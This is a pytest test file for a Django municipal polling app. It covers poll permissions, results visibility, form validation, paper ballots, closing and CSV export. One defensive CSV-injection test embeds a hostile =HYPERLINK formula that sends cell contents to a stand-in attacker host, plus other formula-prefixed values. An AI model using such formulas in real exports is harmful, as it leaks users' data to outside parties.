"""Panel pages for polls (role × phase), paper ballots, closing, results and exports."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import Any

import pytest
from django.test import Client

from tests.conftest import client_for
from tests.factories import DistrictFactory, member
from tests.voting.factories import NOW, ballot, form_data, make_poll, resident, vote_as
from wiec.accounts.actors import resolve_actor
from wiec.accounts.models import Role
from wiec.core.models import AuditEntry
from wiec.polls import actions
from wiec.polls.exceptions import NoQuestionsError
from wiec.polls.models import Eligibility, Poll, Question, ResultsVisibility
from wiec.polls.permissions import can_manage_polls, can_see_results
from wiec.tenants.models import Tenant
from wiec.verification import queries as verification_queries
from wiec.voting.exceptions import InvalidBallotError
from wiec.voting.models import Participation
from wiec.voting.phases import Phase

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _frozen(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("django.utils.timezone.now", lambda: NOW)


def staff_client(tenant: Tenant, role: Role = Role.OFFICIAL) -> Client:
    client = client_for(tenant)
    client.force_login(member(tenant, role))
    return client


def poll_values(**overrides: Any) -> dict[str, Any]:
    return {
        "title": "Budżet szkolny",
        "description": "Opis",
        "starts_at": "2026-07-01T08:00",
        "ends_at": "2026-07-10T20:00",
        "eligibility": "residents",
        "minimum_age": "0",
        "results_visibility": "live",
        "is_published": "on",
        **overrides,
    }


@pytest.mark.parametrize(
    ("role", "allowed"),
    [
        (None, False),
        (Role.RESIDENT, False),
        (Role.MODERATOR, False),
        (Role.OFFICIAL, True),
        (Role.ADMIN, True),
    ],
)
def test_who_manages_polls(tenant: Tenant, role: Role | None, *, allowed: bool) -> None:
    user = member(tenant, role) if role else None
    assert can_manage_polls(resolve_actor(user, tenant)) is allowed
    client = client_for(tenant)
    if user:
        client.force_login(user)
    status = client.get("/panel/sondy/").status_code
    assert status == (200 if allowed else 302 if user is None else 403)


RESULTS_MATRIX = [
    # visibility, phase, resident sees, official sees
    (ResultsVisibility.LIVE, Phase.SCHEDULED, False, False),
    (ResultsVisibility.LIVE, Phase.OPEN, True, True),
    (ResultsVisibility.LIVE, Phase.COUNTING, True, True),
    (ResultsVisibility.LIVE, Phase.CLOSED, True, True),
    (ResultsVisibility.AFTER_CLOSE, Phase.SCHEDULED, False, False),
    (ResultsVisibility.AFTER_CLOSE, Phase.OPEN, False, False),
    (ResultsVisibility.AFTER_CLOSE, Phase.COUNTING, False, True),
    (ResultsVisibility.AFTER_CLOSE, Phase.CLOSED, True, True),
]


@pytest.mark.parametrize(("visibility", "phase", "resident_sees", "official_sees"), RESULTS_MATRIX)
def test_results_visibility_matrix(
    tenant: Tenant, visibility: str, phase: Phase, *, resident_sees: bool, official_sees: bool
) -> None:
    poll = Poll(tenant=tenant, is_published=True, results_visibility=visibility)
    resident = resolve_actor(member(tenant), tenant)
    assert can_see_results(resident, poll=poll, phase=phase) is resident_sees
    official = resolve_actor(member(tenant, Role.OFFICIAL), tenant)
    assert can_see_results(official, poll=poll, phase=phase) is official_sees


def test_official_creates_a_poll_with_questions(tenant: Tenant) -> None:
    client = staff_client(tenant)
    response = client.post("/panel/sondy/nowa/", poll_values())
    poll = Poll.objects.get()
    assert response.status_code == 302
    assert poll.box.min_level == 2
    assert not poll.is_published  # a new poll has no questions yet: a draft
    response = client.post(
        f"/panel/sondy/{poll.pk}/pytania/nowe/",
        {
            "text": "Co kupić?",
            "kind": "multiple",
            "max_choices": "2",
            "options": "piłki\nsiatki\n\nbramki",
        },
    )
    assert response.status_code == 302
    question = poll.questions.get()
    assert [o.text for o in question.options.order_by("position")] == ["piłki", "siatki", "bramki"]
    assert set(AuditEntry.objects.values_list("action", flat=True)) >= {
        "poll.created",
        "ballot_box.created",
        "poll.question_saved",
    }
    response = client.post(f"/panel/sondy/{poll.pk}/", poll_values())
    assert response.status_code == 302
    poll.refresh_from_db()
    assert poll.is_published


def test_a_poll_without_questions_cannot_be_published(tenant: Tenant) -> None:
    client = staff_client(tenant)
    client.post("/panel/sondy/nowa/", poll_values())
    poll = Poll.objects.get()
    response = client.post(f"/panel/sondy/{poll.pk}/", poll_values(), HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200
    assert "is_published" in response.context["form"].errors
    assert response.context["form"]["title"].value() == "Budżet szkolny"  # nothing typed is lost
    poll.refresh_from_db()
    assert not poll.is_published
    with pytest.raises(NoQuestionsError):
        actions.publish_poll(poll=poll, actor=member(tenant, Role.OFFICIAL), at=NOW)


def test_a_new_poll_cannot_start_in_the_past(tenant: Tenant) -> None:
    response = staff_client(tenant).post(
        "/panel/sondy/nowa/", poll_values(starts_at="2026-06-15T11:00")
    )
    assert response.status_code == 200
    assert "starts_at" in response.context["form"].errors
    assert not Poll.objects.exists()


def test_moving_the_start_into_the_past_warns_that_voting_opens(tenant: Tenant) -> None:
    poll = make_poll(tenant, starts_at=NOW + timedelta(days=1))
    client = staff_client(tenant)
    response = client.post(
        f"/panel/sondy/{poll.pk}/",
        poll_values(starts_at="2026-06-15T11:00", title=poll.title),
        follow=True,
    )
    levels = [m.level_tag for m in response.context["messages"]]
    assert "warning" in levels


def test_a_published_poll_keeps_its_last_question(tenant: Tenant) -> None:
    poll = make_poll(tenant, starts_at=NOW + timedelta(days=1))
    client = staff_client(tenant)
    first, second = poll.questions.order_by("position")
    client.post(f"/panel/sondy/{poll.pk}/pytania/{first.pk}/usun/")
    client.post(f"/panel/sondy/{poll.pk}/pytania/{second.pk}/usun/")
    assert list(Question.objects.filter(poll=poll)) == [second]


def test_a_poll_without_questions_takes_no_ballot(tenant: Tenant) -> None:
    """Even one published by hand (the admin, an old database): no vote is spent on it."""
    poll = make_poll(tenant)
    poll.questions.all().delete()
    identity = verification_queries.identity_for_user(tenant=tenant, user=resident(tenant))
    with pytest.raises(InvalidBallotError):
        actions.vote(poll=poll, identity=identity, choices={}, at=NOW)
    client = client_for(tenant)
    client.force_login(resident(tenant, serial=2))
    page = client.get(f"/sondy/{poll.pk}/")
    assert "no questions" in page.content.decode() or "nie ma pytań" in page.content.decode()
    response = client.post(f"/sondy/{poll.pk}/", {"box": poll.box_id})
    assert response.status_code == 409
    assert not Participation.objects.exists()


@pytest.mark.parametrize(
    ("overrides", "field"),
    [
        ({"ends_at": "2026-06-30T08:00"}, "ends_at"),
        ({"eligibility": "districts"}, "districts"),
        ({"eligibility": "logged_in", "minimum_age": "16"}, "minimum_age"),
        ({"starts_at": "wczoraj"}, "starts_at"),
        ({"starts_at": "0001-01-01T00:00"}, "starts_at"),
        ({"ends_at": "9999-12-31T23:59"}, "ends_at"),
    ],
)
def test_poll_form_errors(tenant: Tenant, overrides: dict[str, str], field: str) -> None:
    response = staff_client(tenant).post("/panel/sondy/nowa/", poll_values(**overrides))
    assert response.status_code == 200
    assert field in response.context["form"].errors
    assert not Poll.objects.exists()


@pytest.mark.parametrize(
    ("data", "field"),
    [
        ({"text": "Q", "kind": "single", "options": "jedna"}, "options"),
        ({"text": "Q", "kind": "single", "options": "a\na"}, "options"),
        ({"text": "Q", "kind": "multiple", "max_choices": "3", "options": "a\nb"}, "max_choices"),
    ],
)
def test_question_form_errors(tenant: Tenant, data: dict[str, str], field: str) -> None:
    poll = make_poll(tenant, starts_at=NOW + timedelta(days=1))
    response = staff_client(tenant).post(f"/panel/sondy/{poll.pk}/pytania/nowe/", data)
    assert field in response.context["form"].errors


def test_questions_and_eligibility_freeze_once_voting_starts(tenant: Tenant) -> None:
    poll = make_poll(tenant)  # open
    client = staff_client(tenant)
    question = poll.questions.first()
    assert question is not None
    response = client.post(
        f"/panel/sondy/{poll.pk}/pytania/{question.pk}/",
        {"text": "Zmienione", "kind": "single", "options": "a\nb"},
    )
    assert response.status_code == 200
    assert response.context["form"].non_field_errors()
    response = client.post(
        f"/panel/sondy/{poll.pk}/",
        poll_values(
            starts_at="2026-06-14T12:00", ends_at="2026-06-22T12:00", eligibility="logged_in"
        ),
    )
    assert response.context["form"].non_field_errors()
    poll.refresh_from_db()
    assert poll.eligibility == Eligibility.RESIDENTS
    # The end may still move (e.g. voting extended), and that is audit-logged.
    response = client.post(
        f"/panel/sondy/{poll.pk}/",
        poll_values(starts_at="2026-06-14T12:00", ends_at="2026-06-25T12:00"),
    )
    assert response.status_code == 302
    assert AuditEntry.objects.filter(action="ballot_box.changed").exists()


def test_paper_ballot_entry_checks_the_same_register(tenant: Tenant) -> None:
    poll = make_poll(tenant)
    user = resident(tenant, serial=7)
    vote_as(poll, user)
    client = staff_client(tenant)
    from tests.voting.factories import pesel

    data = {**form_data(poll), "pesel": pesel(serial=7).number}
    response = client.post(f"/panel/sondy/{poll.pk}/papierowe/", data)
    assert response.status_code == 200
    assert response.context["form"].non_field_errors()
    assert pesel(serial=7).number not in str(response.context["form"].non_field_errors())
    data["pesel"] = pesel(serial=8).number
    assert client.post(f"/panel/sondy/{poll.pk}/papierowe/", data).status_code == 302
    assert Participation.objects.filter(channel="paper").count() == 1
    data["pesel"] = "44051401358"
    response = client.post(f"/panel/sondy/{poll.pk}/papierowe/", data)
    assert "pesel" in response.context["form"].errors


def test_paper_ballot_for_a_district_poll_needs_the_district(tenant: Tenant) -> None:
    inside, outside = DistrictFactory(tenant=tenant), DistrictFactory(tenant=tenant)
    poll = make_poll(tenant, eligibility=Eligibility.DISTRICTS, districts=[inside])
    client = staff_client(tenant)
    from tests.voting.factories import pesel

    data = {**form_data(poll), "pesel": pesel(serial=1).number, "district": outside.pk}
    response = client.post(f"/panel/sondy/{poll.pk}/papierowe/", data)
    assert response.context["form"].non_field_errors()
    # The official types the ballot in: the field names the voter, it does not say "your".
    assert "Obszar zamieszkania głosującego" in response.content.decode()
    assert "Twoje osiedle" not in response.content.decode()
    data["district"] = inside.pk
    assert client.post(f"/panel/sondy/{poll.pk}/papierowe/", data).status_code == 302


def test_closing_freezes_and_publishes_final_results(tenant: Tenant) -> None:
    poll = make_poll(tenant)
    for serial, first in enumerate([0, 0, 1]):
        user = resident(tenant, serial=serial)
        actions.vote(
            poll=poll,
            identity=verification_queries.identity_for_user(tenant=tenant, user=user),
            choices=ballot(poll, first=first, second=(0, 1)),
            at=NOW,
        )
    public = client_for(tenant)
    assert public.get(f"/sondy/{poll.pk}/wyniki/").status_code == 403
    staff = staff_client(tenant)
    assert staff.post(f"/panel/sondy/{poll.pk}/zamknij/").status_code == 302
    response = public.get(f"/sondy/{poll.pk}/wyniki/")
    assert response.status_code == 200
    results = response.context["results"]
    assert results.ballots == 3
    first_question = results.questions[0]
    assert [r.votes for r in first_question.options] == [2, 1, 0]
    html = response.content.decode()
    # The chart is one image to assistive technology, named with every value in words.
    assert '<div class="bar-chart" role="img" aria-label="Wyniki: Gdzie?. park: 2' in html
    assert "<table>" in html
    rows = list(
        csv.reader(io.StringIO(public.get(f"/sondy/{poll.pk}/wyniki.csv").content.decode()))
    )
    assert rows[0] == ["Pytanie", "Odpowiedź", "Głosy", "Odsetek kart"]
    assert rows[1] == ["Gdzie?", "park", "2", "0.6667"]
    # Frozen: nothing more may be cast or closed again.
    assert staff.post(f"/panel/sondy/{poll.pk}/zamknij/").status_code == 302
    assert AuditEntry.objects.filter(action="ballot_box.closed").count() == 1


def test_results_page_query_count_does_not_grow_with_options(
    tenant: Tenant, django_assert_max_num_queries: Any
) -> None:
    poll = make_poll(tenant, results_visibility=ResultsVisibility.LIVE)
    client = client_for(tenant)
    with django_assert_max_num_queries(12):
        assert client.get(f"/sondy/{poll.pk}/wyniki/").status_code == 200


def test_staff_pages_render(tenant: Tenant) -> None:
    poll = make_poll(tenant)
    client = staff_client(tenant, Role.ADMIN)
    question = poll.questions.first()
    assert question is not None
    for url in [
        "/panel/sondy/",
        "/panel/sondy/nowa/",
        f"/panel/sondy/{poll.pk}/",
        f"/panel/sondy/{poll.pk}/pytania/nowe/",
        f"/panel/sondy/{poll.pk}/pytania/{question.pk}/",
        f"/panel/sondy/{poll.pk}/papierowe/",
    ]:
        assert client.get(url).status_code == 200, url


def test_a_cached_poll_is_dropped_when_the_poll_changes(
    tenant: Tenant, django_assert_max_num_queries: Any
) -> None:
    poll = make_poll(tenant, starts_at=NOW + timedelta(days=1))
    client = client_for(tenant)
    client.get(f"/sondy/{poll.pk}/")
    with django_assert_max_num_queries(2):  # the tenant; the poll comes from the cache
        client.get(f"/sondy/{poll.pk}/")
    staff = staff_client(tenant)
    assert "Trzecie pytanie?" not in staff.get(f"/panel/sondy/{poll.pk}/").content.decode()
    staff.post(
        f"/panel/sondy/{poll.pk}/pytania/nowe/",
        {"text": "Trzecie pytanie?", "kind": "single", "options": "tak\nnie"},
    )
    assert "Trzecie pytanie?" in staff.get(f"/panel/sondy/{poll.pk}/").content.decode()
    staff.post(f"/panel/sondy/{poll.pk}/", poll_values(title="Nowy tytuł"))
    assert "Nowy tytuł" in client.get(f"/sondy/{poll.pk}/").content.decode()


def test_a_started_poll_cannot_be_moved_back_to_before_its_start(tenant: Tenant) -> None:
    poll = make_poll(tenant)  # open since yesterday
    vote_as(poll, resident(tenant))
    client = staff_client(tenant)
    response = client.post(
        f"/panel/sondy/{poll.pk}/",
        poll_values(starts_at="2026-06-20T12:00", ends_at="2026-06-22T12:00"),
    )
    assert response.status_code == 200
    assert response.context["form"].non_field_errors()
    poll.box.refresh_from_db()
    assert poll.box.starts_at < NOW
    # So its questions stay frozen under the ballots already cast.
    question = poll.questions.first()
    assert question is not None
    response = client.post(
        f"/panel/sondy/{poll.pk}/pytania/{question.pk}/",
        {"text": "Zmienione", "kind": "single", "options": "a\nb"},
    )
    assert response.context["form"].non_field_errors()


def test_ended_voting_cannot_be_reopened(tenant: Tenant) -> None:
    poll = make_poll(tenant, starts_at=NOW - timedelta(days=3), ends_at=NOW - timedelta(hours=1))
    starts = poll.box.starts_at.astimezone(NOW.tzinfo).strftime("%Y-%m-%dT%H:%M")
    response = staff_client(tenant).post(
        f"/panel/sondy/{poll.pk}/", poll_values(starts_at=starts, ends_at="2026-06-20T12:00")
    )
    assert "nie można wznowić" in str(response.context["form"].non_field_errors())
    poll.box.refresh_from_db()
    assert poll.box.ends_at < NOW


def test_no_paper_ballots_in_a_poll_open_to_any_account(tenant: Tenant) -> None:
    from tests.voting.factories import pesel

    poll = make_poll(tenant, eligibility=Eligibility.LOGGED_IN)
    client = staff_client(tenant)
    edit = client.get(f"/panel/sondy/{poll.pk}/")
    assert f"/panel/sondy/{poll.pk}/papierowe/" not in edit.content.decode()
    page = client.get(f"/panel/sondy/{poll.pk}/papierowe/")
    assert "tylko w sondach dla zweryfikowanych mieszkańców" in page.content.decode()
    assert 'name="pesel"' not in page.content.decode()
    data = {**form_data(poll), "pesel": pesel(serial=5).number}
    response = client.post(f"/panel/sondy/{poll.pk}/papierowe/", data)
    assert response.status_code == 200
    assert not Participation.objects.exists()


def test_a_district_id_beyond_the_database_range_is_an_invalid_choice(tenant: Tenant) -> None:
    response = staff_client(tenant).post(
        "/panel/sondy/nowa/", poll_values(eligibility="districts", districts=str(2**64))
    )
    assert response.status_code == 200
    assert "districts" in response.context["form"].errors


def test_the_results_csv_neutralises_formulas_in_question_and_option_texts(
    tenant: Tenant,
) -> None:
    """A question or answer an official typed as `=HYPERLINK(...)` must reach a spreadsheet as
    text, not as a formula (CSV injection)."""
    poll = make_poll(tenant, results_visibility=ResultsVisibility.LIVE)
    question = poll.questions.order_by("position").first()
    assert question is not None
    question.text = '=HYPERLINK("http://zly.example/?"&A1,"Kliknij")'
    question.save()
    options = list(question.options.order_by("position"))
    for option, text in zip(options, ["+park", "-2+3", "@SUM(A1:A9)"], strict=True):
        option.text = text
        option.save()
    vote_as(poll, resident(tenant, serial=1))
    rows = list(
        csv.reader(
            io.StringIO(client_for(tenant).get(f"/sondy/{poll.pk}/wyniki.csv").content.decode())
        )
    )
    assert rows[1][0] == "'" + question.text
    assert [row[1] for row in rows[1:4]] == ["'+park", "'-2+3", "'@SUM(A1:A9)"]
    assert [row[2] for row in rows[1:4]] == ["1", "0", "0"]


def settings_form_html(response: Any) -> str:
    """The settings form of the panel's poll page (empty when there is none)."""
    html = response.content.decode()
    start = html.find('<form method="post" class="form"')
    return html[start : html.index("</form>", start)] if start != -1 else ""


def test_an_open_poll_shows_what_can_no_longer_change_as_text(tenant: Tenant) -> None:
    upcoming = make_poll(tenant, starts_at=NOW + timedelta(days=1), ends_at=NOW + timedelta(days=3))
    form = settings_form_html(staff_client(tenant).get(f"/panel/sondy/{upcoming.pk}/"))
    for name in ["title", "starts_at", "ends_at", "eligibility", "minimum_age", "is_published"]:
        assert f'name="{name}"' in form, name  # before voting starts, everything can change
    assert '<dl class="meta-list frozen-settings">' not in form
    poll = make_poll(tenant)  # open since yesterday
    response = staff_client(tenant).get(f"/panel/sondy/{poll.pk}/")
    form = settings_form_html(response)
    for name in ["starts_at", "eligibility", "districts", "minimum_age"]:
        assert f'name="{name}"' not in form, name
    for name in ["title", "ends_at", "results_visibility", "is_published"]:
        assert f'name="{name}"' in form, name
    html = response.content.decode()
    frozen = html[html.index('<dl class="meta-list frozen-settings">') :]
    frozen = frozen[: frozen.index("</dl>")]
    assert "Początek głosowania" in frozen
    assert "14.06.2026" in frozen or "14 czerwca 2026" in frozen
    assert "zweryfikowani mieszkańcy" in frozen
    assert "Zapisz sondę" in form


def test_an_ended_poll_no_longer_offers_its_end(tenant: Tenant) -> None:
    poll = make_poll(tenant, starts_at=NOW - timedelta(days=3), ends_at=NOW - timedelta(hours=1))
    form = settings_form_html(staff_client(tenant).get(f"/panel/sondy/{poll.pk}/"))
    assert 'name="ends_at"' not in form
    assert 'name="title"' in form


def test_saving_an_open_poll_needs_only_what_can_still_change(tenant: Tenant) -> None:
    poll = make_poll(tenant)
    response = staff_client(tenant).post(
        f"/panel/sondy/{poll.pk}/",
        {
            "title": "Nowy tytuł",
            "description": "",
            "ends_at": "2026-06-25T12:00",
            "results_visibility": "live",
            "is_published": "on",
        },
    )
    assert response.status_code == 302
    poll.refresh_from_db()
    poll.box.refresh_from_db()
    assert poll.title == "Nowy tytuł"
    assert poll.eligibility == Eligibility.RESIDENTS
    assert poll.box.ends_at.astimezone(NOW.tzinfo).strftime("%Y-%m-%d %H:%M") == "2026-06-25 12:00"


def test_a_closed_poll_shows_its_settings_as_text_and_cannot_be_saved(tenant: Tenant) -> None:
    poll = make_poll(tenant)
    client = staff_client(tenant)
    client.post(f"/panel/sondy/{poll.pk}/zamknij/")
    response = client.get(f"/panel/sondy/{poll.pk}/")
    assert settings_form_html(response) == ""
    html = response.content.decode()
    assert "Zapisz sondę" not in html
    assert '<dl class="meta-list frozen-settings">' in html
    assert "Nowy plac zabaw" in html
    changes = AuditEntry.objects.count()
    response = client.post(f"/panel/sondy/{poll.pk}/", poll_values(title="Po zamknięciu"))
    assert response.status_code == 302
    poll.refresh_from_db()
    assert poll.title == "Nowy plac zabaw"
    assert AuditEntry.objects.count() == changes
